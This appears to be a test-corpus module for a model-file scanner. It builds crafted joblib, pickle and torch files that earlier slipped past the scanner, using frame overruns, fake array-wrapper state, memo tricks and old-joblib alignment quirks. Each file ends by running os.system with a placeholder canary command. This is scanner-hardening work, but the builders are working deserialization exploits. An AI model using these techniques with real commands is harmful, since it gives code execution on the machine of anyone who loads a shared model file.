"""joblib files that got through a third time: frames that go on behind STOP, arrays that are none, trials that gave up.

Found by an attacker who read the trials of `encodings.joblib_trial` (rows P4, P9, C12). Each is kept as it was, less
the payload. `_old` ones need joblib before 1.2, which nobody here has: they have to be held.
"""

from typing import Any

from tests.build import joblib_builder as j
from tests.build import pickle_builder as p
from tests.build.corpus_bypasses import _new, _state
from tests.build.sample import CANARY, Sample, system

_WRAPPER = ("joblib.numpy_pickle", "NumpyArrayWrapper")
_UFUNC = p.global_("numpy.core", "_ufunc_reconstruct")
_EXP = _UFUNC + p.binput(0) + p.push(("numpy", "exp")) + p.REDUCE + p.POP


def _objects(count: int = 1) -> p.Code:
    return j.wrapper(shape=(count,), of=j.OBJECTS, alignment=None)


def _evil(command: str) -> bytes:
    return p.POP + system(command) + p.STOP


# --- frames that go on behind their pickle ------------------------------------------------------------------------


def beyond(value: bytes, evil: bytes, pad: int = 0) -> bytes:
    """A pickle of `value` whose frame goes on for a while; what follows its STOP is a byte string, or what follows."""
    cover = p.STOP + p.binbytes(b"", pad + len(evil)) + bytes(pad)
    return p.proto(4) + p.frame(value + cover) + evil


def frame_in_objects(command: str = CANARY) -> bytes:
    made = p.call(p.global_("numpy._core.multiarray", "_reconstruct"), j.NDARRAY, (0,), b"b")
    inner = beyond(p.build(made, (1, (1,), j.OBJECTS, False, [1])), _evil(command))
    return p.proto(4) + _objects() + inner + p.POP + p.STOP


def frame_before_a_pickle(command: str = CANARY) -> bytes:
    return beyond(p.NONE, system(command) + p.STOP, 20_000) + p.STOP


def frame_in_torch(command: str = CANARY) -> bytes:
    data = beyond(p.long1(0x1950A86A20F9469CFC6C), system(command) + p.STOP, 20_000)
    return data + p.POP + p.binint2(1001) + p.STOP + p.EMPTY_DICT + p.STOP + p.NONE + p.STOP + p.EMPTY_LIST + p.STOP


# --- arrays that are none -----------------------------------------------------------------------------------------


def _space(**attributes: Any) -> p.Code:
    return p.build(p.call(p.global_("types", "SimpleNamespace")), attributes)


def built_again(command: str = CANARY) -> bytes:
    """What the pickle of an array of objects gave is given the state of a wrapper."""
    inner = p.whole(_space(dtype=_space(byteorder="=")))
    code = _evil(command)
    return p.proto(4) + _objects() + inner + p.push(_state(len(code))) + p.BUILD + code + p.STOP


def laundered_objects(command: str = CANARY) -> bytes:
    inner = p.whole(_space(keys=p.global_("builtins", "max"), dtype=_space(byteorder="=")))
    return p.whole(p.call(p.global_("builtins", "dict"), p.Code(_objects() + inner)))


def two_wrappers(command: str = CANARY) -> bytes:
    """A joblib that knows one of the two reads opcodes behind the other."""
    code = _evil(command)
    other = p.build(_new("sklearn.externals.joblib.numpy_pickle", "NumpyArrayWrapper"), _state(len(code)))
    return p.proto(4) + p.build(_new(*_WRAPPER), _state(4)) + b"\xff" * 4 + other + code + p.STOP


# --- arrays that are opcodes for pickle.load ----------------------------------------------------------------------


def raw(code: bytes, before: bytes = b"") -> bytes:
    return p.proto(4) + before + p.build(_new(*_WRAPPER), _state(len(code))) + code + p.STOP


def no_state(command: str = CANARY) -> bytes:
    return raw(p.POP + p.NONE + p.NONE + p.BUILD + _evil(command))


def no_items(command: str = CANARY, opcode: bytes = p.SETITEMS) -> bytes:
    return raw(p.POP + p.push("x") + p.MARK + opcode + _evil(command))


def frame_in_array(command: str = CANARY) -> bytes:
    """A string begins in a frame: C drops the three bytes left there, so that it ends three bytes further on."""
    left, length = 3, 40
    framed = p.POP + p.binbytes(bytes(20_000)) + p.POP + b"X" + length.to_bytes(4, "little") + b"x" * left
    return raw(p.frame(framed) + b"y" * (length - left) + p.STOP + b"y" * (left - 1) + _evil(command))


def _text(function: tuple[str, str], *words: str) -> bytes:
    """The words in the memo, each as what a function gave that was given it."""
    return b"".join(p.call(p.global_(*function), word) + p.MEMOIZE + p.POP for word in words)


def names_from_calls(command: str = CANARY, function: tuple[str, str] = ("numpy", "object_")) -> bytes:
    code = p.POP + p.binget(0) + p.binget(1) + p.STACK_GLOBAL + p.push((command,)) + p.REDUCE + p.STOP
    return raw(code, _text(function, "os", "system"))


def names_in_objects(command: str = CANARY) -> bytes:
    text = p.short_binunicode
    inner = p.proto(4) + text("builtins") + p.MEMOIZE + text("slice") + p.MEMOIZE + p.POP + p.POP
    inner += p.binget(0) + p.binget(1) + p.STACK_GLOBAL + p.push((command,)) + p.REDUCE + p.STOP
    return p.proto(4) + _text(("numpy", "object_"), "os", "system") + _objects() + inner + p.STOP


def loaded_again(command: str = CANARY) -> bytes:
    return raw(p.STOP + system(command) + p.STOP)


def loaded_again_behind_objects(command: str = CANARY) -> bytes:
    """Whoever loads again behind an array's objects has an empty memo, where the words are others."""
    text, memo = p.short_binunicode, p.MEMOIZE
    before = b"".join(text(word) + memo + p.POP for word in ("builtins", "slice"))
    words = b"".join(text(word) + memo + p.POP for word in ("os", "system"))
    after = words + p.binget(0) + p.binget(1) + p.STACK_GLOBAL + p.push((command,)) + p.REDUCE
    return p.proto(4) + before + _objects() + j.pickled_objects(1) + after + p.STOP


def method_in_wrapper(command: str = CANARY) -> bytes:
    """The wrapper that ``pickle.load`` is left with is given a method that its next BUILD calls."""
    code = (
        p.EMPTY_DICT + p.unicode("__set\\u0073tate__") + p.binget(9) + p.SETITEM + p.BUILD + p.NONE + p.BUILD + p.STOP
    )
    return raw(code, p.global_("builtins", "slice") + p.binput(9) + p.POP)


def wrapper_in_checkpoint(command: str = CANARY) -> bytes:
    """torch.load looks persistent ids up, where pickle.load stops."""
    return raw(p.POP + p.push("x") + p.BINPERSID + _evil(command))


# --- arrays whose last bytes are opcodes for joblib before 1.2 ----------------------------------------------------


def _array(tail: bytes) -> bytes:
    """An array whose `tail` lies behind it for who knows no alignment, and takes the padding for its first bytes."""
    pad = bytes([len(tail) - 1]) + b"\xff" * (len(tail) - 1)
    return p.build(_new(*_WRAPPER), _state(8, numpy_array_alignment_bytes=16)) + pad.ljust(8, b"\0") + tail


def old_reduce(command: str = CANARY) -> bytes:
    """The array itself is the tuple of arguments."""
    words = "".join(word.ljust(4, "\0") for word in ("io", "open")).encode("utf-32-be")
    made = p.call(p.global_("numpy", "dtype"), "U4", False, True)
    of = p.build(made, (3, ">", None, None, None, 16, 4, 8))
    array = p.build(_new(*_WRAPPER), {**_state(2, numpy_array_alignment_bytes=16), "dtype": of}) + words + p.REDUCE
    return p.proto(4) + _EXP + p.binget(0) + array + p.STOP


def _covered(code: bytes) -> bytes:
    """`code`, for who takes the first bytes of the byte string around it for the rest of another."""
    return p.binbytes(b"\xff" * 62 + code)


def old_calls(command: str = CANARY) -> bytes:
    code = p.POP + p.binget(0) + p.push(("os", "system")) + p.REDUCE + p.push((command,)) + p.REDUCE + p.STOP
    return p.proto(4) + _EXP + _array(p.POP + b"C") + _covered(code) + p.STOP


def old_array(command: str = CANARY) -> bytes:
    made = p.build(_new(*_WRAPPER), _state(4)) + b"\xff" * 4
    return p.proto(4) + _array(p.POP + b"C") + _covered(p.POP + made + _evil(command)) + p.STOP


_LOADED = {
    "frame-objects": (frame_in_objects, "joblib.load", "P4", "joblib"),
    "frame-again": (frame_before_a_pickle, "pickle.load(again)", "P4", ""),
    "frame-torch": (frame_in_torch, "torch.load", "P4", "torch"),
    "built-again": (built_again, "joblib.load", "C12", "joblib"),
    "no-state": (no_state, "pickle.load", "P9", "joblib"),
    "no-state-py": (no_state, "pickle._load", "P9", "joblib"),
    "no-items": (no_items, "pickle.load", "P9", "joblib"),
    "no-appends": (lambda command=CANARY: no_items(command, p.APPENDS), "pickle.load", "P9", "joblib"),
    "frame-array": (frame_in_array, "pickle.load", "P4", "joblib"),
    "names": (names_from_calls, "pickle.load", "P9", "joblib"),
    "names-torch": (
        lambda command=CANARY: names_from_calls(command, ("torch.jit._pickle", "build_intlist")),
        "pickle.load", "P9", "joblib",
    ),
    "names-objects": (names_in_objects, "pickle.load", "P9", "joblib"),
    "again": (loaded_again, "pickle.load(again)", "P9", "joblib"),
    "again-objects": (loaded_again_behind_objects, "pickle.load(again)", "P9", "joblib"),
    "persistent": (wrapper_in_checkpoint, "pickle.load(persistent)", "P9", "joblib"),
}  # fmt: skip
_HELD = {
    "launder": laundered_objects,
    "two-wrappers": two_wrappers,  # scikit-learn before 0.21 has a joblib of its own
    "method": method_in_wrapper,
    "old-reduce": old_reduce,  # with joblib 1.1
    "old-calls": old_calls,
    "old-array": old_array,
}

SAMPLES = (
    *(
        Sample(
            f"joblib-{name}", "joblib", technique, "model.pt" if loader == "torch.load" else "model.joblib", build,
            executes=True, loader=loader, expects="flagged", needs=needs,
        )
        for name, (build, loader, technique, needs) in _LOADED.items()
    ),
    *(Sample(f"joblib-{name}", "joblib", "C12", "model.joblib", build) for name, build in _HELD.items()),
)  # fmt: skip
